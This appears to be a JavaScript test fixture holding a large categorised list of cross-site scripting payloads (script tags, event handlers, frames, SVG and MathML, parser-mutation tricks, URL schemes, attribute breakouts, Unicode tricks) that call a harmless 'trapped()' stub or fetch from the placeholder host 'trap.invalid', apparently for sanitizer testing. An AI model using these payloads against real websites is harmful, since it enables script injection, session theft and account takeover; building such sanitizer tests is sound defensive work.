// Texts that run in a page which takes them for something else than text. `TRAP` is what each of them would call or fetch.

/** A function that the test puts into each page, and a host that does not exist. */
export const TRAP = 'trapped';
export const TRAP_HOST = 'trap.invalid';

const call = `${TRAP}()`;
const url = `https://${TRAP_HOST}/x`;

const SCRIPTS = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="${url}.js"></script>`,
  `<script src=//${TRAP_HOST}/x.js></script>`,
  `<script type=module>${call}</script>`,
  `<script\x20type="text/javascript">${call};</script>`,
  `<script/random>${call}</script>`,
  `</script><script>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script>/*</script><script>*/${call}</script>`,
  `<!--<script>-->${call}<!--</script>-->`,
];

const HANDLERS = [
  `<img src=x onerror=${call}>`,
  `<img src="${url}.png">`,
  `<img srcset="${url} 1x" onerror=${call}>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<img src=x:x onerror\x0b=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src onerror="&#116;rapped()">`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video src=x onerror=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<div onmouseover=${call} style="position:fixed;inset:0">x</div>`,
  `<div contenteditable onblur=${call} tabindex=1 autofocus>`,
  `<p onpointerenter=${call}>hover</p>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}></b>`,
  `<xss id=x tabindex=1 onfocus=${call}></xss>`,
  `<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=${call}>x</xss>`,
  `<dialog open onclose=${call}><form method=dialog><button autofocus>`,
];

const FRAMES = [
  `<iframe src="javascript:${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="${url}">`,
  `<iframe onload=${call}>`,
  `<object data="javascript:${call}">`,
  `<object data="${url}">`,
  `<embed src="javascript:${call}">`,
  `<embed src="${url}.swf">`,
  `<frameset onload=${call}>`,
  `<base href="https://${TRAP_HOST}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv="refresh" content="0;url=${url}">`,
  `<link rel=stylesheet href="${url}.css">`,
  `<link rel=preload as=script href="${url}.js">`,
  `<link rel=prefetch href="${url}">`,
  `<form action="javascript:${call}"><input type=submit autofocus>`,
  `<form id=x></form><button form=x formaction="javascript:${call}">x`,
  `<portal src="${url}">`,
];

const OTHER_LANGUAGES = [
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${call}">`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x">`,
  `<svg><image href="${url}.svg">`,
  `<svg><foreignObject><iframe src="javascript:${call}"></foreignObject></svg>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`,
];

// What a sanitizer's parser reads otherwise than the page's.
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<title><img src=x onerror=${call}></title>`,
  `</title><img src=x onerror=${call}>`,
  `</textarea><img src=x onerror=${call}>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${call}'>"></style></h1>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<a href="--><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--!><img src=x onerror=${call}>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<table background="javascript:${call}"><td>`,
];

const SCHEMES = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\x01javascript:${call}`,
  ` javascript:${call}`,
  `javascript://example.org/%0a${call}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='${call}'>`,
  `https://example.org/"onmouseover="${call}`,
  `https://example.org/'><img src=x onerror=${call}>`,
  `https://example.org/#javascript:${call}`,
  `https://${TRAP_HOST}@example.org/`,
  `https://example.org\\@${TRAP_HOST}/x`,
  `//${TRAP_HOST}/x`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD50cmFwcGVkKCk8L3NjcmlwdD4=`,
  `vbscript:${call}`,
  `view-source:javascript:${call}`,
  `blob:https://${TRAP_HOST}/x`,
  `[x](javascript:${call})`,
  `![x](${url}.png)`,
  `<javascript:${call}>`,
];

const BREAKOUTS = [
  `"onmouseover="${call}`,
  `' onfocus='${call}' autofocus x='`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  '`><img src=x onerror=' + call + '>',
  `" style="background:url(${url})" x="`,
  `');${call}//`,
  `\\";${call}//`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `"};${call};{"`,
  `</style><img src=x onerror=${call}>`,
  `}*{background:url(${url})}`,
  `@import url(${url}.css);`,
  `expression(${call})`,
  `-moz-binding:url(${url})`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\r\nContent-Type: text/html\r\n\r\n<script>${call}</script>`,
];

// Letters that a page may turn into others, or that turn the page around.
const LETTERS = [
  `\u202e<script>${call}</script>`,
  `\u2066<img src=x onerror=${call}>\u2069`,
  `\u200b<script>${call}</script>`,
  `\ufeff<script>${call}</script>`,
  `＜script＞${call}＜/script＞`,
  `‹script›${call}‹/script›`,
  `<\u017fcript>${call}</\u017fcript>`,
  `<ſvg onload=${call}>`,
  `javascript\u003a${call}`,
  `\u2028<script>${call}</script>\u2029`,
  `<img src=x onerror=\u0074rapped()>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `A\u0300\u0301\u0302\u0303\u0304\u0305\u0306<script>${call}</script>`,
  `👩‍👩‍👧‍👦<img src=x onerror=${call}>`,
];

// Names that an object may have already.
const KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'dangerouslySetInnerHTML', '{"__html":"<img src=x onerror=trapped()>"}', '__proto__.innerHTML'];

export const PAYLOADS = [...SCRIPTS, ...HANDLERS, ...FRAMES, ...OTHER_LANGUAGES, ...MUTATIONS, ...SCHEMES, ...BREAKOUTS, ...LETTERS, ...KEYS];

/** Where a text without control characters is wanted. */
export const PRINTABLE = PAYLOADS.map((text) => text.replace(/[\x00-\x1f]/g, ' ').trim()).filter(Boolean);
